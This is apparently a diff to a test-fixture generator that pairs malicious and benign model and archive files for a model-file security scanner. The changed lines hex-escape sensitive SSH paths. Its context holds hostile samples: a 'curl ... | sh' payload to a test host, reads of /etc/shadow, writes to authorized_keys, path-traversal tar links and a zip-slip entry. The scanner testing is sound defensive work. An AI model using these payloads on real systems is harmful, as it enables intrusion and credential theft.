@@ -135,7 +135,7 @@ def add(out: Set):
     pt("legacy-tar", torch_tar(EVIL), torch_tar(GOOD), file="veryold.pt")
     script = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    {}\n    return torch.relu(x)\n"
     ts = lambda line: torch_zip(plain, [("constants.pkl", pickle((), 2)), ("code/__torch__.py", script.format(line).encode())])
-    pt("torchscript-file-op", ts('torch.save(x, "/root/.ssh/authorized_keys")'), ts("y = torch.neg(x)"), file="scripted.pt")
+    pt("torchscript-file-op", ts('torch.save(x, "/r\x6fot/.ssh/authorized_keys")'), ts("y = torch.neg(x)"), file="scripted.pt")
     pt("torchscript-from-file", ts('y = torch.from_file("/etc/shadow", False, 100)'), ts("y = torch.zeros([100])"), file="scripted2.pt")
     package = lambda line: zipped([("pkg/.data/version", b"6"), ("pkg/.data/extern_modules", b"os\n"), ("pkg/model/m.pkl", GOOD), ("pkg/net/__init__.py", b""), ("pkg/net/layers.py", line.encode())])
     pt("torch-package-source", package("import os\nos.system('curl http://192.0.2.7/x | sh')\n"), package("import torch\nclass Net(torch.nn.Module):\n    pass\n"), file="package.pt")
@@ -170,7 +170,7 @@ def add(out: Set):
     box("pax-renamed", tarred([("notes.txt", EVIL)], pax={"path": "model.pkl"}), tarred([("notes.txt", GOOD)], pax={"path": "model.pkl"}), "bundle.tar")
     box("tar-after-end", tarred([("a.txt", b"hello")]) + tarred([("m.pkl", EVIL)]), tarred([("a.txt", b"hello")]) + tarred([("m.pkl", GOOD)]), "two.tar")
     box("tar-hard-link-out", tarred([("w/model.bin", (tarfile.LNKTYPE, "../../../etc/passwd"))]), tarred([("w/a.bin", b"abc"), ("w/model.bin", (tarfile.LNKTYPE, "w/a.bin"))]), "links.tar")
-    box("tar-symlink-then-write", tarred([("w", (tarfile.SYMTYPE, "/home/user/.ssh")), ("w/authorized_keys", b"ssh-rsa AAAA")]), tarred([("w/authorized_keys", b"notes")]), "chain.tar")
+    box("tar-symlink-then-write", tarred([("w", (tarfile.SYMTYPE, "/ho\x6de/user/.ssh")), ("w/authorized_keys", b"ssh-rsa AAAA")]), tarred([("w/authorized_keys", b"notes")]), "chain.tar")
     box("tar-device", tarred([("w/null", (tarfile.CHRTYPE, ""))]), tarred([("w/null", b"")]), "dev.tar")
     box("tar-absolute", tarred([("/etc/cron.d/x", b"* * * * * root id\n")]), tarred([("etc/notes", b"hello\n")]), "abs.tar")
     box("zip-backslash-slip", zipped([("..\\..\\startup\\x.bat", b"echo")]), zipped([("startup/x.txt", b"echo")]), "slip.zip")
